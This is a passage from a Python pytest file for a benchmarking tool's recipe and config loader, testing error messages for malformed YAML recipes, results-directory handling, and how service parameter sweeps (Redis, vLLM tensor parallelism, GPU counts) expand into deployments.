            "client": "chroma",
            "client_params": {"dataset": "file", "dataset_file": "recipes"},
        },
        ["field 'client_params.dataset_file'", "'recipes' is a directory, not a file"],
    ),
]


def experiment_using(where: str) -> str:
    """A shipped experiment that reads the recipe file ``where`` (relative to recipes/)."""
    folder, name = where.split("/")[0], Path(where).stem
    if folder == "experiments":
        return name
    field = {"services": "service", "clients": "client"}[folder]
    return next(
        p.stem for p in sorted(EXPERIMENTS.glob("*.yaml")) if yaml.safe_load(p.read_text())[field] == name
    )


@pytest.mark.parametrize(("what", "where", "content", "expected"), MALFORMED, ids=[m[0] for m in MALFORMED])
def test_malformed_file_gives_precise_error(
    recipes: Path,
    monkeypatch: pytest.MonkeyPatch,
    what: str,
    where: str,
    content: object,
    expected: list[str],
) -> None:
    monkeypatch.chdir(recipes.parent)
    if where == "config":
        config_file = write(recipes.parent / "config.yaml", content)
    else:
        write(recipes / where, content)
        config_file = write(recipes.parent / "config.yaml", {"experiments": [experiment_using(where)]})
    data = yaml.safe_load(config_file.read_text())
    if isinstance(data, dict):
        data["recipes"] = str(recipes)
    with pytest.raises(ConfigError) as info:
        load_plan(data, str(config_file), recipes.parent, [config_file])
    message = str(info.value)
    expected_file = str(config_file) if where == "config" else str(recipes / where)
    assert message.startswith(expected_file + ":"), message
    assert "field '" in message or "not valid YAML (line" in message, message
    for fragment in expected:
        assert fragment in message, f"{fragment!r} not in {message!r}"
    assert not (recipes.parent / "results").exists()


def test_malformed_count() -> None:
    assert len(MALFORMED) >= 35
    assert len({m[0] for m in MALFORMED}) == len(MALFORMED)
    assert len({(m[1], repr(m[2])) for m in MALFORMED}) == len(MALFORMED)


@pytest.mark.parametrize(
    "results",
    [
        "results",
        "runs/2024-06-01",
        "../aibench-results",
        "{tmp}/scratch/u100/aibench-results",
        "/tmp/aibench-x",
    ],
)
def test_results_outside_the_working_tree_is_fine(
    recipes: Path, monkeypatch: pytest.MonkeyPatch, results: str
) -> None:
    """Scratch on HPC is outside the repository: only root, system and enclosing directories are refused."""
    monkeypatch.chdir(recipes.parent)
    config = {
        "experiments": ["redis-default"],
        "recipes": str(recipes),
        "results": results.format(tmp=recipes.parent),
    }
    plan = load_plan(config, "config.yaml", recipes.parent)
    assert plan.results == Path(config["results"])


def test_conditional_rules_accept_the_valid_combination(
    recipes: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(recipes.parent)
    (recipes.parent / "v.npz").write_bytes(b"")  # a dataset_file must exist when the plan is made
    timed = {**LLM_EXPERIMENT, "client_params": {"requests": 0, "duration_s": 5}}
    assert load_experiment(write(recipes / "experiments" / "timed.yaml", timed), recipes).points
    from_file = {
        "service": "chroma",
        "client": "chroma",
        "client_params": {"dataset": "file", "dataset_file": "v.npz"},
    }
    assert load_experiment(write(recipes / "experiments" / "own.yaml", from_file), recipes).points


def test_yaml_merge_keys_may_be_overridden(tmp_path: Path) -> None:
    text = "base: &b {clients: 1, pipeline: 2}\nover:\n  <<: *b\n  clients: 5\n"
    assert load_yaml(write(tmp_path / "x.yaml", text))["over"] == {"clients": 5, "pipeline": 2}


def test_prepared_data_parameters_cannot_be_swept(recipes: Path) -> None:
    experiment = {"service": "mysql", "client": "sysbench", "sweep": {"table_size": [100, 1000]}}
    path = write(recipes / "experiments" / "db.yaml", experiment)
    with pytest.raises(ConfigError, match=r"field 'sweep.table_size'.*cannot be swept"):
        load_experiment(path, recipes)


def test_service_sweep_makes_one_deployment_per_combination(recipes: Path) -> None:
    """io_threads linked with the job's cpus, times two maxclients: four deployments, each with its
    parameters and resources; the client sweep is the same on each; the budget counts them all."""
    write(
        recipes / "experiments" / "redis-io.yaml",
        {**GOOD_EXPERIMENT, "service_sweep": {"io_threads": [1, 4], "maxclients": [100, 1000],
                                              "cpus": [1, 4]},
         "link": [["io_threads", "cpus"]], "parallel_deployments": 2},
    )  # fmt: skip (written with sorted keys: cpus, io_threads, maxclients)
    plan = load_plan({"experiments": ["redis-io"], "recipes": str(recipes)}, "config", recipes.parent)
    exp = plan.experiments["redis-io"]
    units = list(plan.deployments)
    assert units == [
        "redis-io/cpus-1_io_threads-1_maxclients-100",
        "redis-io/cpus-1_io_threads-1_maxclients-1000",
        "redis-io/cpus-4_io_threads-4_maxclients-100",
        "redis-io/cpus-4_io_threads-4_maxclients-1000",
    ]
    last = exp.deployments[-1]
    assert last.swept == {"cpus": 4, "io_threads": 4, "maxclients": 1000}
    assert last.service.params["io_threads"] == 4 and last.service.params["maxclients"] == 1000
    assert "cpus" not in last.service.params and last.service.resources["cpus"] == 4
    assert exp.deployments[0].service.resources["cpus"] == 1
    assert exp.service.params["io_threads"] == 1  # the recipe's own, untouched
    assert len(exp.points) == 2 and exp.parallel_deployments == 2
    from aibench.recipes.loader import plan_summary

    assert "1 experiments, 4 deployments, 8 points" in plan_summary(plan)
    single = load_plan({"experiments": ["redis-default"], "recipes": str(recipes)}, "config", recipes.parent)
    assert [(d.unit, d.id) for d in single.deployments.values()] == [("redis-default", None)]


def test_a_service_sweep_counts_in_the_run_budget(recipes: Path) -> None:
    write(
        recipes / "experiments" / "redis-io.yaml",
        {**GOOD_EXPERIMENT, "service_sweep": {"io_threads": list(range(1, 41))}},
    )
    config = {"experiments": ["redis-io"], "recipes": str(recipes), "max_planned_hours": 0.5}
    with pytest.raises(ConfigError, match=r"redis-io.yaml: field 'sweep': its 80 points take up to"):
        load_plan(config, "config", recipes.parent)


def test_a_tensor_parallel_sweep_needs_its_gpus(recipes: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """vLLM's TP size sweeps with the job's GPUs (linked); swept alone, TP 2 on the recipe's one GPU is
    refused at the swept field, before anything is submitted."""
    monkeypatch.setenv("AIBENCH_SCRATCH", str(recipes.parent))  # the vllm recipe's model cache
    config = {"experiments": ["llm-tp-sweep-gpu"], "recipes": str(recipes), "launcher": "slurm"}
    plan = load_plan(config, "config", recipes.parent)
    deployments = plan.experiments["llm-tp-sweep-gpu"].deployments
    shapes = [
        (d.id, d.service.params["tensor_parallel_size"], d.service.resources["gpus"]) for d in deployments
    ]
    assert shapes == [
        ("tensor_parallel_size-1_gpus-1", 1, 1), ("tensor_parallel_size-2_gpus-2", 2, 2),
        ("tensor_parallel_size-4_gpus-4", 4, 4),
    ]  # fmt: skip
    path = recipes / "experiments" / "llm-tp-sweep-gpu.yaml"
    data = yaml.safe_load(path.read_text())
    write(path, {**data, "service_sweep": {"tensor_parallel_size": [1, 2]}, "link": []})
    with pytest.raises(ConfigError) as info:
        load_plan(config, "config", recipes.parent)
    assert str(info.value).startswith(
        f"{path}: field 'service_sweep.tensor_parallel_size': at deployment tensor_parallel_size-2: "
        "tensor_parallel_size 2 shards the model over 2 GPUs, but the service job asks for 1"
    ), info.value


def test_replicas_of_tp_1_against_one_of_tp_4(recipes: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The shipped comparison: replicas, TP size and GPUs linked; five service jobs in all."""
    monkeypatch.setenv("AIBENCH_SCRATCH", str(recipes.parent))
    config = {"experiments": ["llm-replicas-vs-tp-gpu"], "recipes": str(recipes), "launcher": "slurm"}
    plan = load_plan(config, "config", recipes.parent)
    shapes = [(d.id, d.replicas, d.replica_numbers, d.service.resources["gpus"], d.swept)
              for d in plan.deployments.values()]  # fmt: skip
    assert shapes == [
        ("replicas-4_tensor_parallel_size-1_gpus-1", 4, [0, 1, 2, 3], 1,
         {"replicas": 4, "tensor_parallel_size": 1, "gpus": 1}),
        ("replicas-1_tensor_parallel_size-4_gpus-4", 1, [None], 4,
         {"replicas": 1, "tensor_parallel_size": 4, "gpus": 4}),
    ]  # fmt: skip
    assert all("replicas" not in d.service.params for d in plan.deployments.values())


def test_a_swept_resource_the_service_cannot_use_is_named(
    recipes: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Only gpus swept, and TP 2 needs two: the error names the swept field and the deployment."""
    monkeypatch.setenv("AIBENCH_SCRATCH", str(recipes.parent))
    path = recipes / "experiments" / "llm-tp-sweep-gpu.yaml"
    data = yaml.safe_load(path.read_text())
    write(path, {**data, "service_params": {"tensor_parallel_size": 2}, "service_sweep": {"gpus": [2, 1]},
                 "link": []})  # fmt: skip
    config = {"experiments": ["llm-tp-sweep-gpu"], "recipes": str(recipes), "launcher": "slurm"}
    with pytest.raises(ConfigError) as info:
        load_plan(config, "config", recipes.parent)
    expected = f"{path}: field 'service_sweep.gpus': at deployment gpus-1: "
    assert str(info.value).startswith(expected), info.value
